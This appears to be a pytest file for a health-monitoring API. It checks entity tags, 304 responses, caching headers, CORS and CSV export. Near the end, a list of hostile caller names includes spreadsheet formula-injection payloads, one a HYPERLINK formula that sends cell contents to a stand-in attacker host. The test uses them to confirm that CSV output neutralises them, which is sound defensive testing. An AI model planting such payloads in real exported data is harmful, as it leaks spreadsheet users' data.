"""How answers go over the wire: CSV, entity tags and 304, for the whole table."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest

from breaker.outcome import Status
from healthapi import csvs
from healthapi.presenting import file_name
from healthapi.routes import Route
from healthapi.table import TABLE
from tests.healthapi.admin_world import World
from tests.healthapi.serving import Client, ask, serving
from tests.healthapi.told import MODEL, Told, telling

GETS = [route for route in TABLE if route.method == "GET" and route.path != "/v1/events"]
"""Everything that can be read to its end."""
TAGGED = [route for route in GETS if route.answer is not None and route.answer.tagged]
MOVING = [route for route in TAGGED if route.answer is not None and route.answer.moving]
UNTAGGED = [route for route in GETS if route not in TAGGED]
LISTS = [route for route in GETS if route.answer is not None and route.answer.rows is not None]


def named(route: Route) -> str:
    return route.path


@pytest.fixture
async def port() -> AsyncIterator[Told]:
    async with telling() as made:
        yield made


@pytest.fixture
async def client() -> AsyncIterator[Client]:
    made = await serving(World())
    yield made
    await made.close()


async def raw(client: Client, head: str) -> bytes:
    """All that comes back for one request."""
    reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
    try:
        writer.write(f"{head}\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        return await asyncio.wait_for(reader.read(), 20)
    finally:
        writer.close()
        await writer.wait_closed()


# Entity tags


@pytest.mark.parametrize("route", TAGGED, ids=named)
async def test_what_a_client_has_is_not_sent_again(port: Told, route: Route) -> None:
    first = await port.ask(route)
    tag = first.headers["ETag"]
    assert first.headers["Cache-Control"] == "no-cache"
    assert tag.startswith("W/") == (route in MOVING)
    assert re.fullmatch(r'(W/)?"[0-9a-f]{32}"', tag)
    if route in MOVING:
        port.world.now += 0.01
    for sent in (tag, tag.removeprefix("W/"), f'"other", {tag}', "*"):
        for method in ("GET", "HEAD"):
            again = await port.ask(route, method=method, If_None_Match=sent)
            assert (again.status, await again.read()) == (304, b"")
            assert again.headers["ETag"] == tag
            assert again.headers["Cache-Control"] == "no-cache"
            assert again.headers["Vary"] == first.headers["Vary"]
            assert "X-Detour-Request-Id" in again.headers
            assert not {"Content-Type", "Content-Length", "Content-Disposition"} & set(again.headers)
    for sent in ('"other"', "", f'"{tag}"'):
        assert (await port.ask(route, If_None_Match=sent)).status == 200


@pytest.mark.parametrize("route", MOVING, ids=named)
async def test_time_alone_changes_no_tag_where_the_document_tells_it(port: Told, route: Route) -> None:
    first = await port.ask(route)
    port.world.now += 3
    second = await port.ask(route)
    assert await first.read() != await second.read()
    assert first.headers["ETag"] == second.headers["ETag"]
    assert (await port.ask(route, If_None_Match=first.headers["ETag"])).status == 304


CALLED = ("/v1/model-health", "/health/", "/circuit-breakers")
"""Below these traffic is told of."""
CHANGED = [
    route for route in TAGGED if route.path.startswith(CALLED) and not route.path.endswith(("/cleanup", "/unhealthy"))
]


@pytest.mark.parametrize("route", CHANGED, ids=named)
async def test_news_are_sent(port: Told, route: Route) -> None:
    tag = (await port.ask(route)).headers["ETag"]
    port.world.now += 61  # a minute's bucket of history is over, and no survey is young enough to be told again
    port.world.attempt("openrouter", MODEL)
    port.world.attempt("openrouter", "new", Status.ERROR)
    answer = await port.ask(route, If_None_Match=tag)
    assert answer.status == 200
    assert answer.headers["ETag"] != tag


@pytest.mark.parametrize("route", UNTAGGED, ids=named)
async def test_the_rest_is_not_kept_by_anybody(port: Told, route: Route) -> None:
    answer = await port.ask(route, If_None_Match="*")
    assert (answer.status, answer.headers["Cache-Control"]) == (200, "no-store")
    assert "ETag" not in answer.headers


@pytest.mark.parametrize("route", [route for route in TABLE if route.method != "GET"], ids=named)
async def test_what_changes_something_is_done_whatever_a_client_has(port: Told, route: Route) -> None:
    answer = await port.ask(route, If_None_Match="*")
    assert answer.status != 304
    assert "ETag" not in answer.headers
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("asked", ["/v1/model-health?limit=0", "/v1/model-health/groq/absent", "/nope"])
async def test_mistakes_have_no_tag(client: Client, asked: str) -> None:
    answer = await ask(client, asked, If_None_Match="*")
    assert answer.status in (400, 404)
    assert answer.headers["Cache-Control"] == "no-store"
    assert "ETag" not in answer.headers


async def test_304_on_the_wire_ends_with_its_head(client: Client) -> None:
    tag = (await ask(client, "/v1/model-health")).headers["ETag"]
    for method in ("GET", "HEAD"):
        answer = await raw(client, f'{method} /v1/model-health HTTP/1.1\r\nIf-None-Match: "x"\r\nIf-None-Match: {tag}')
        assert answer.startswith(b"HTTP/1.1 304 ")
        assert answer.endswith(b"\r\n\r\n")
        assert answer.count(b"\r\n\r\n") == 1
        assert b"content-length" not in answer.lower()


async def test_pages_of_other_origins_may_read_the_tag(client: Client) -> None:
    answer = await ask(client, "/v1/model-health", Origin="https://status.example")
    assert "ETag" in answer.headers["Access-Control-Expose-Headers"]
    asked = await ask(
        client,
        "/v1/model-health",
        "OPTIONS",
        Origin="https://status.example",
        Access_Control_Request_Method="GET",
        Access_Control_Request_Headers="if-none-match",
    )
    assert "If-None-Match" in asked.headers["Access-Control-Allow-Headers"]


# CSV


def rows_of(route: Route, document: dict[str, Any]) -> int:
    assert route.answer is not None
    assert route.answer.rows is not None
    return len(document[route.answer.rows.field])


@pytest.mark.parametrize("route", LISTS, ids=named)
async def test_every_list_as_csv(port: Told, route: Route) -> None:
    assert route.answer is not None
    assert route.answer.document is not None
    assert route.answer.rows is not None
    as_json = await port.ask(route)
    for query, headers in (("?format=csv", {}), ("?format=csv", {"Accept": "*/*"}), ("", {"Accept": "text/csv"})):
        answer = await port.ask(route, query, **headers)
        assert answer.status == 200
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{file_name(route.path)}"'
        assert answer.headers["Vary"] == "Origin, Accept"
        body = await answer.text()
        found = list(csv.reader(io.StringIO(body, newline=""), strict=True))
        assert tuple(found[0]) == csvs.columns(route.answer.document, route.answer.rows).names
        assert len(found) - 1 == rows_of(route, await as_json.json())
        head = await port.ask(route, query, "HEAD", **headers)
        assert (head.status, await head.read()) == (200, b"")
        assert int(head.headers["Content-Length"]) == len(body.encode())
        tag = answer.headers["ETag"]
        assert head.headers["ETag"] == tag
        assert not tag.startswith("W/")
        assert tag not in (as_json.headers["ETag"], as_json.headers["ETag"].removeprefix("W/"))
        assert (await port.ask(route, query, If_None_Match=tag, **headers)).status == 304
        assert (await port.ask(route, If_None_Match=tag)).status == 200


@pytest.mark.parametrize("route", LISTS, ids=named)
async def test_another_format_is_refused_and_json_can_be_asked_for(port: Told, route: Route) -> None:
    assert (await port.ask(route, "?format=xml")).status == 400
    answer = await port.ask(route, "?format=json", Accept="text/csv")
    assert answer.headers["Content-Type"] == "application/json"


@pytest.mark.parametrize("route", [route for route in GETS if route not in LISTS], ids=named)
async def test_what_is_no_list_stays_what_it_is(port: Told, route: Route) -> None:
    answer = await port.ask(route, "?format=csv", Accept="text/csv")
    assert answer.status == 200
    assert not answer.headers["Content-Type"].startswith("text/csv")
    assert "Content-Disposition" not in answer.headers


async def test_a_mistake_is_told_as_json_whatever_was_asked_for(client: Client) -> None:
    answer = await ask(client, "/v1/model-health?format=csv&limit=0", Accept="text/csv")
    assert (answer.status, answer.headers["Content-Type"]) == (400, "application/json")
    assert "error" in await answer.json()


async def test_an_empty_list_is_a_header() -> None:
    client = await serving(World())
    try:
        text = await (await ask(client, "/v1/model-health/providers?format=csv")).text()
    finally:
        await client.close()
    assert text == "provider,model_count,total_calls\r\n"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "-2+3",
    "@x",
    "\t=1",
    "a,b",
    'q"q',
    "l\r\nl",
    ";=1",
    "\udcff",
    "\x00",
]


async def test_names_of_callers_are_harmless_in_a_spreadsheet() -> None:
    made = World()
    for name in HOSTILE:
        made.attempt("groq", name)
    client = await serving(made)
    try:
        for asked, column in (("/v1/model-health", 1), ("/health/models", 0)):
            text = (await (await ask(client, f"{asked}?format=csv")).read()).decode()
            cells = [line[column] for line in csv.reader(io.StringIO(text, newline=""), strict=True)][1:]
            assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
            assert {csvs.plain(cell) for cell in cells} == {name.replace("\udcff", "?") for name in HOSTILE}
    finally:
        await client.close()


def test_files_are_called_after_the_path() -> None:
    assert file_name("/v1/model-health") == "model-health.csv"
    assert file_name("/circuit-breakers/{provider}") == "circuit-breakers.csv"
    names = [file_name(route.path) for route in LISTS]
    assert all(re.fullmatch(r"[a-z-]+\.csv", name) for name in names)
